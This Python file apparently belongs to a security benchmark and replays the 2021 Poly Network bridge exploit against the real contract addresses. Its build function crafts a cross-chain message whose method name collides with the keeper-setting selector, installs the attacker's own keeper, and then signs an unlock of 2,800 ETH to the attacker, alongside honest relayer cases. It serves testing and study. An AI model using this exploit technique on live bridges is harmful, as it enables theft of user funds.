"""Poly Network, August 2021: a cross-chain message could call whatever the manager owns, its keepers among it."""

from hashlib import sha256

from eth_account import Account
from eth_account.signers.local import LocalAccount
from eth_typing import Hash32
from eth_utils.crypto import keccak

from benches.quality.plan import ETHER, NATIVE, Incident, Plan, call, gains

MANAGER = "0x838bf9e95cb12dd76a54c9f9d2e3082eaf928270"
DATA = "0xcf2afe102057ba5c16f899271045a0a37fcb10f2"
PROXY = "0x250e76987d838a75310c34bf422ea9f1ac4cc906"
_KEEPERS, _EPOCH = 3, 4
_REMOTE_CHAIN = 10
_REMOTE_PROXY = bytes.fromhex("34d4a23a1fc0c694f0d74ddaf9d8d564cfe2d430")
_THIS_CHAIN = 2
_SETS_KEEPERS = b"f1121318093"
"""With the manager's fixed parameters its selector is that of `putCurEpochConPubKeyBytes(bytes)`."""
_EXECUTE = "verifyHeaderAndExecuteTx(bytes,bytes,bytes,bytes,bytes)"

Keys = list[LocalAccount]


def build(plan: Plan) -> None:
    state = plan.state
    height = state.at(DATA, _EPOCH) + 1_000
    keepers = _keys("keeper", 4)
    state.write_bytes(DATA, _KEEPERS, _written(keepers))

    attacker = plan.actor("attacker")
    own = _keys("attacker's keeper", 1)
    takeover = _message(keepers, height, 1, DATA, _SETS_KEEPERS, _written(own))
    taken = 2_800 * ETHER
    loot = _message(own, height, 2, PROXY, b"unlock", _unlock(attacker.address, taken))
    plan.attack(
        plan.transaction(attacker, MANAGER, takeover),
        after=[plan.transaction(attacker, MANAGER, loot)],
        changes=[gains(NATIVE, attacker, taken - ETHER)],
        by="account",
    )

    user, relayer = plan.actor("user"), plan.actor("relayer")
    plan.honest(
        "a relayer brings a message that unlocks 40 ETH",
        plan.transaction(
            relayer,
            MANAGER,
            _message(keepers, height, 3, PROXY, b"unlock", _unlock(user.address, 40 * ETHER)),
        ),
        changes=[gains(NATIVE, user, 40 * ETHER)],
    )
    messages = [
        _message(keepers, height, 4 + at, PROXY, b"unlock", _unlock(user.address, amount * ETHER))
        for at, amount in enumerate((200, 3))
    ]
    plan.honest(
        "a relayer's contract brings two, of 200 and of 3 ETH",
        plan.through(
            plan.install("Wallet"),
            plan.actor("other relayer"),
            *((MANAGER, 0, message) for message in messages),
        ),
        changes=[gains(NATIVE, user, 203 * ETHER)],
        by="contract",
    )


def _keys(name: str, count: int) -> Keys:
    return [Account.from_key(keccak(text=f"{name} {number}")) for number in range(count)]


def _written(keys: Keys) -> bytes:
    return len(keys).to_bytes(8, "little") + b"".join(
        _counted(bytes.fromhex(key.address[2:])) for key in keys
    )


def _counted(content: bytes) -> bytes:
    """After its length, as Poly writes that."""
    size = len(content)
    return (bytes([size]) if size < 0xFD else b"\xfd" + size.to_bytes(2, "little")) + content


def _unlock(to: str, wei: int) -> bytes:
    """Arguments of the proxy's `unlock`, of ether."""
    return _counted(bytes(20)) + _counted(bytes.fromhex(to[2:])) + wei.to_bytes(32, "little")


def _message(keepers: Keys, height: int, number: int, to: str, method: bytes, arguments: bytes) -> bytes:
    """Calldata of the manager for a message in a block of its own, signed by the keepers."""
    number_hash = sha256(bytes([number])).digest()
    leaf = (
        _counted(number_hash)
        + _REMOTE_CHAIN.to_bytes(8, "little")
        + _counted(number_hash)
        + _counted(bytes([number]))
        + _counted(_REMOTE_PROXY)
        + _THIS_CHAIN.to_bytes(8, "little")
        + _counted(bytes.fromhex(to[2:]))
        + _counted(method)
        + _counted(arguments)
    )
    root = sha256(b"\0" + leaf).digest()
    header = (
        bytes(4) + bytes(8) + bytes(32) + bytes(32) + root + bytes(32)
        + bytes(4) + height.to_bytes(4, "little") + bytes(8) + _counted(b"") + bytes(20)
    )  # fmt: skip
    digest = header
    for _ in range(3):
        digest = sha256(digest).digest()
    made = [key.unsafe_sign_hash(Hash32(digest)) for key in keepers]
    signatures = b"".join(
        each.r.to_bytes(32, "big") + each.s.to_bytes(32, "big") + bytes([each.v - 27]) for each in made
    )
    parts = [_counted(leaf), header, b"", b"", signatures]
    return call(_EXECUTE, *parts)


POLY_NETWORK = Incident(
    "PolyNetwork",
    {"Manager": MANAGER, "Data": DATA, "Proxy": PROXY},
    build,
    note="the keepers' keys are the bench's own",
)
